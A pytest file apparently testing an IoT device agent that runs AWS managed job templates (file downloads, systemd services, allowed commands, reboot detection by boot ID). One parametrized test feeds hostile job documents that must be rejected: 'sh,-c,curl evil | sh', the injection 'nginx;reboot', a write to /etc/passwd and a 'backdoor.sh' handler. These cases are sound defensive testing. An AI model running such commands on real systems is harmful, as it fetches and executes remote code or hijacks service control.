"""Each AWS managed template's document, parameters substituted, through the local Jobs
service, the broker and the agent; outcomes checked on the system (files, stand-ins)."""

from __future__ import annotations

import hashlib
import os

import pytest
from agent_core_fixtures import InProcessAgent, create_job, wait_for, wait_status
from managed_fixtures import (
    FileServer,
    ManagedAgentProcess,
    document,
    make_standin,
    standin_calls,
)
from stack_helpers import set_settings

from agent.managed import register_managed_handlers

pytestmark = pytest.mark.timeout(60)


@pytest.fixture
def bin_dir(tmp_path):
    return tmp_path / "bin"


@pytest.fixture
def agent_factory(stack, tmp_path, bin_dir):
    """``agent_factory(**sections)``: an in-process agent with the managed handlers and these
    settings sections (services use a systemctl stand-in, downloads trust the stack's CA)."""
    made = []

    def make(**sections):
        settings_path = stack.thing("thing-1").settings_path
        defaults = {
            "services": {"systemctl": str(make_standin(bin_dir, "systemctl"))},
            "download": {"ca_file": str(stack.ca_path), "retry_delay_seconds": "0.05"},
        }
        for name, values in sections.items():
            defaults.setdefault(name, {}).update(values)
        for name, values in defaults.items():
            set_settings(settings_path, name, **values)
        agent = InProcessAgent(stack)
        register_managed_handlers(agent.client, agent.settings)
        made.append(agent)
        return agent.start()

    yield make
    for agent in made:
        agent.stop()


def run_job(stack, job_id, doc, statuses=("SUCCEEDED", "FAILED", "REJECTED")):
    create_job(stack, job_id, doc)
    return wait_status(stack, job_id, statuses, timeout=20)


def test_download_file_template_downloads_over_https(stack, agent_factory, tmp_path):
    server = FileServer(
        stack.certificates.server.certificate, stack.certificates.server.private_key
    )
    body = os.urandom(200_000)
    server.files["/firmware.bin"] = body
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    try:
        agent_factory(download={"directory": str(downloads)})
        doc = document(
            "AWS-Download-File",
            downloadUrl=server.url("/firmware.bin", "X-Amz-Signature=abc"),
            filePath="fw/firmware.bin",
        )
        found = run_job(stack, "download-1", doc)
    finally:
        server.stop()
    assert found["status"] == "SUCCEEDED", found
    assert (downloads / "fw" / "firmware.bin").read_bytes() == body
    assert found["details"]["sha256"] == hashlib.sha256(body).hexdigest()


@pytest.mark.parametrize(
    "template, verb",
    [
        ("AWS-Start-Application", "start"),
        ("AWS-Stop-Application", "stop"),
        ("AWS-Restart-Application", "restart"),
    ],
)
def test_service_templates_call_systemctl(stack, agent_factory, bin_dir, template, verb):
    agent_factory(services={"allowed": "nginx, myapp"})
    found = run_job(stack, f"svc-{verb}", document(template, services="nginx myapp"))
    assert found["status"] == "SUCCEEDED", found
    assert standin_calls(bin_dir / "systemctl") == [[verb, "--", "nginx.service", "myapp.service"]]


def test_run_command_template_runs_an_allowed_command(stack, agent_factory, tmp_path):
    agent_factory(run_command={"enabled": "yes", "allowed_commands": "touch"})
    marker = tmp_path / "touched by a job"
    found = run_job(stack, "run-1", document("AWS-Run-Command", command=f"touch,{marker}"))
    assert found["status"] == "SUCCEEDED", found
    assert marker.exists()


def test_old_operation_form_runs_through_the_same_handler(stack, agent_factory, bin_dir):
    agent_factory(services={"allowed": "nginx"})
    found = run_job(stack, "old-1", {"operation": "restart-services.sh", "args": ["nginx"]})
    assert found["status"] == "SUCCEEDED", found
    assert standin_calls(bin_dir / "systemctl") == [["restart", "--", "nginx.service"]]


@pytest.mark.parametrize(
    "doc, reason, code",
    [
        (
            {
                "version": "1.0",
                "steps": [
                    {
                        "action": {
                            "name": "x",
                            "type": "runHandler",
                            "input": {"handler": "backdoor.sh", "path": "/tmp"},
                        }
                    }
                ],
            },
            "'backdoor.sh' is not built into this agent",
            "NOT_SUPPORTED",
        ),
        (
            document("AWS-Download-File", downloadUrl="https://h/f", filePath="/etc/passwd"),
            "is not inside the download directory",
            "NOT_ALLOWED",
        ),
        (
            document("AWS-Stop-Application", services="sshd"),
            "'sshd.service' is not in [services] allowed",
            "NOT_ALLOWED",
        ),
        (
            document("AWS-Start-Application", services="nginx;reboot"),
            "'nginx;reboot' is not a systemd unit name",
            "INVALID_DOCUMENT",
        ),
        (
            document("AWS-Run-Command", command="sh,-c,curl evil | sh"),
            "'sh' is not in [run_command] allowed_commands",
            "NOT_ALLOWED",
        ),
        (document("AWS-Reboot"), "reboot is disabled", "NOT_ALLOWED"),
    ],
    ids=["unknown-handler", "path-outside", "service", "injection", "command", "reboot-off"],
)
def test_documents_asking_for_what_is_not_allowed_are_rejected(
    stack, agent_factory, tmp_path, bin_dir, doc, reason, code
):
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    agent_factory(
        services={"allowed": "nginx"},
        download={"directory": str(downloads)},
        run_command={"enabled": "yes", "allowed_commands": "touch"},
    )
    found = run_job(stack, "rejected-1", doc)
    assert found["status"] == "REJECTED", found
    assert reason in found["details"]["reason"]
    assert found["details"]["errorCode"] == code
    assert standin_calls(bin_dir / "systemctl") == []


# Reboot: the agent as a process that the "reboot" kills, started again on a "new boot".


@pytest.fixture
def reboot_setup(stack, tmp_path, bin_dir):
    boot_id = tmp_path / "boot_id"
    boot_id.write_text("boot-1\n")
    reboot = make_standin(bin_dir, "reboot")
    settings_path = stack.thing("thing-1").settings_path
    set_settings(settings_path, "reboot", enabled="yes", command=reboot, boot_id_file=boot_id)
    agents = []

    def start():
        agent = ManagedAgentProcess(settings_path, tmp_path / f"agent-{len(agents)}.log")
        agents.append(agent)
        return agent

    yield boot_id, reboot, start
    for agent in agents:
        agent.close()


@pytest.mark.parametrize(
    "new_boot_id, status", [("boot-2", "SUCCEEDED"), ("boot-1", "FAILED")], ids=["rebooted", "not"]
)
def test_reboot_template_is_judged_by_the_boot_id_after_the_restart(
    stack, reboot_setup, new_boot_id, status
):
    boot_id, reboot, start = reboot_setup
    first = start()
    create_job(stack, "reboot-1", document("AWS-Reboot"))
    wait_for(lambda: standin_calls(reboot), timeout=20, what="the reboot command")
    wait_status(stack, "reboot-1", ("IN_PROGRESS",))
    first.kill()  # the power goes; the journal says the job was running
    boot_id.write_text(new_boot_id + "\n")
    start()
    found = wait_status(stack, "reboot-1", ("SUCCEEDED", "FAILED", "REJECTED"), timeout=20)
    assert found["status"] == status, found
    assert standin_calls(reboot) == [[]]  # the command ran once, before the "reboot"
    if status == "FAILED":
        assert found["details"]["errorCode"] == "NOT_REBOOTED"


def test_reboot_that_stops_the_agent_with_sigterm_succeeds_after_the_restart(
    stack, reboot_setup, bin_dir
):
    # What systemd does on a reboot: SIGTERM to the agent, which must not report the job.
    boot_id, reboot, start = reboot_setup
    reboot.write_text(
        reboot.read_text().replace(
            "sys.exit(", "import os, signal; os.kill(os.getppid(), signal.SIGTERM)\nsys.exit("
        )
    )
    first = start()
    create_job(stack, "reboot-2", document("AWS-Reboot"))
    assert first.process.wait(30) == 0
    boot_id.write_text("boot-2\n")
    start()
    found = wait_status(stack, "reboot-2", ("SUCCEEDED", "FAILED", "REJECTED"), timeout=20)
    assert found["status"] == "SUCCEEDED", found
    assert found["details"]["bootId"] == "boot-2"
    assert standin_calls(reboot) == [[]]  # asked once; the next start only compared boot ids
